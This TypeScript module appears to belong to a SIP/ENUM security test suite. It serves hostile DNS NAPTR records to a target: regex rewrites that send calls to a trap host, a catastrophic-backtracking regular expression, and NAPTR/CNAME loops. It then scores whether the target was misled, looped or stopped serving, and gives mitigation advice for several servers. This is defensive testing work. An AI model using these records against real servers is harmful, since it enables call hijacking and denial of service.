import { attack } from '../attack.ts'
import { openNameServer } from '../name-server.ts'
import { freshHost, lead, naptrRecord, srvRecords } from '../zone.ts'

/** Questions for one name that one look-up may ask at most, with what is said again. */
const MAX_QUESTIONS = 60

/** Records of NAPTR that hurt whoever follows them: expressions without end, circles, ways inside. */
export const hostileNaptr = attack({
  id: 'hostile-naptr',
  entry: 'H03',
  title: 'answers NAPTR with expressions that never end, circles and URIs of its choice',
  threats: ['enum-attack', 'dns-cache-poisoning'],
  clause: '§3.1 and §3.3, ENUM',
  references: ['RFC 3402 §3.2', 'RFC 3403 §4.1', 'RFC 6116 §3.4', 'RFC 3263 §4.1'],
  severity: 'high',
  isIntrusive: true,
  maxMessages: 1_000,
  needs: ['account', 'zone'],
  expected: 'Expressions are bounded or not used at all, circles end, and no URI of a record leads inside.',
  mending: {
    aspis: 'On by default: NAPTR chooses transports only; expressions are never run, aliases are bounded.',
    kamailio:
      'enum module: `i_enum_suffix` and `domain_suffix` of zones of your own; check `$ru` after `enum_query()`.',
    opensips: 'enum module: `domain_suffix` of a zone of your own; check `$ru` after `enum_query()`.',
    asterisk: 'Use `ENUMLOOKUP` with a zone of your own only, and dial only what a pattern of yours fits.',
  },
  async run(trial) {
    const server = await openNameServer(trial)
    const alice = await trial.user(0)
    const trap = await trial.stranger({ who: 'trap', transport: 'UDP' })
    const { ip, port } = trap.line.local
    const insideHost = freshHost(server)
    const endlessHost = freshHost(server)
    const circleHost = freshHost(server)
    const rightHost = freshHost(server)
    const services = 'E2U+sip'
    server.records = [
      ...[services, 'SIP+D2U'].map((service, at) =>
        naptrRecord(insideHost, at, {
          flags: 'u',
          services: service,
          regexp: `!^.*$!sip:trap@${ip}:${port}!`,
        }),
      ),
      naptrRecord(endlessHost, 1, {
        flags: 'u',
        services,
        regexp: '!^(([a-z0-9.@:])+)+$X!sip:trap@127.0.0.1!',
      }),
      naptrRecord(circleHost, 1, { flags: '', services, replacement: `a.${circleHost}` }),
      naptrRecord(`a.${circleHost}`, 1, { flags: '', services, replacement: circleHost }),
      { name: `_sip._udp.${circleHost}`, type: 'CNAME', ttl: 0, data: `b.${circleHost}` },
      { name: `b.${circleHost}`, type: 'CNAME', ttl: 0, data: `_sip._udp.${circleHost}` },
      ...srvRecords(rightHost, trap),
    ]
    const before = await lead(trial, alice, `sip:somebody@${rightHost}`, [trap])
    if (before.at === undefined)
      return trial.inconclusive(
        `no request to the zone arrived at all (${before.answer.final?.startLine ?? 'no answer'})`,
      )
    const led = await lead(
      trial,
      alice,
      `sip:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@${insideHost}`,
      [],
      trial.silenceMs,
    )
    const misled = trap.line.heard.some(each => each.method !== '' && !each.text.includes(rightHost))
    await lead(trial, alice, `sip:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@${circleHost}`, [], trial.silenceMs)
    const round = server.askedFor(circleHost).length
    await lead(trial, alice, `sip:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@${endlessHost}`, [], trial.silenceMs)
    const isServing = await trial.isServing()
    const isAsked = server.asked.some(({ type }) => type === 'NAPTR')
    const counts = { misled: misled ? 1 : 0, questionsOfCircle: round, naptrAsked: isAsked ? 1 : 0 }
    if (misled) return trial.succeeded('an expression of a record chose where a request goes', counts)
    if (round > MAX_QUESTIONS)
      return trial.succeeded(`a circle of records was asked for ${round} times`, counts)
    if (!isServing) return trial.succeeded('an expression of a record stopped the service for others', counts)
    if (!isAsked) return trial.skipped('needs a target that asks for NAPTR; this one asked for none')
    return trial.resisted(
      `NAPTR was asked for, its expressions led nowhere (${led.answer.final?.startLine ?? 'no answer'}), a circle ended after ${round} questions`,
      counts,
    )
  },
})
